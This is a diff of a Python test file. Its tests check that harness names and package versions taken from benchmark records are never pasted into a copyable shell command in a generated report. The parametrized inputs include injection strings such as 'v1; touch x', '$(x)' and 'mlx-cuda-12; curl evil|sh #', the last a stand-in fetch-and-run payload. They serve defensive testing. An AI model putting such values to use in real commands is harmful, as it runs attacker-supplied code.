@@ -549,13 +549,32 @@ def test_of_many_configs_that_are_not_what_was_measured_some_are_named():
     assert "`models/m4/config.json`, `models/m5/config.json` and 2 more the records do not" in line
 
 
-def test_what_a_stranger_named_is_one_word_of_the_command(rendered):
-    def named():
-        edited(
-            "summary", lambda rows: [row | {"harness": join_texts(["v1; touch x"])} for row in rows]
-        )
+@pytest.mark.parametrize("name", ["v1; touch x", "-f", ".", "config", "HEAD~1", "$(x)", "v1 ."])
+def test_no_command_to_be_copied_has_what_a_record_says_but_a_revision(rendered, name):
+    """`git checkout .` loses what is not committed."""
 
-    assert "\n    git checkout 'v1; touch x'\n" in rendered(named)
+    def named():
+        edited("summary", lambda rows: [row | {"harness": join_texts([name])} for row in rows])
+
+    text = rendered(named)
+    assert "git checkout" not in text and "\n    make finding\n" in text
+    assert f"| Harness | `{name}` |" in text
+
+
+@pytest.mark.parametrize(
+    "name", ["mlx-cuda-12; curl evil|sh #", "mlx-cuda-$(x)", "mlx-cuda-12 -f x", "mlx-cuda-1２"]
+)
+def test_no_command_to_be_copied_has_what_a_record_says_but_a_number(rendered, name):
+    """The packages that it names."""
+
+    def named():
+        (file,) = Path("results").glob("cells/**/cell.json")
+        said = json.loads(file.read_text())
+        said["engine"]["versions"] = {name: "1", "mlx-cuda-13": "1"}
+        file.write_text(json.dumps(said))
+
+    assert "\n    make finding ACCEL=cuda13\n" in rendered(named)
+    assert "\n    make finding ACCEL=cuda13\n" in Path("report/finding.md").read_text()
 
 
 def test_a_default_limit_is_stated_where_it_was_measured(rendered):
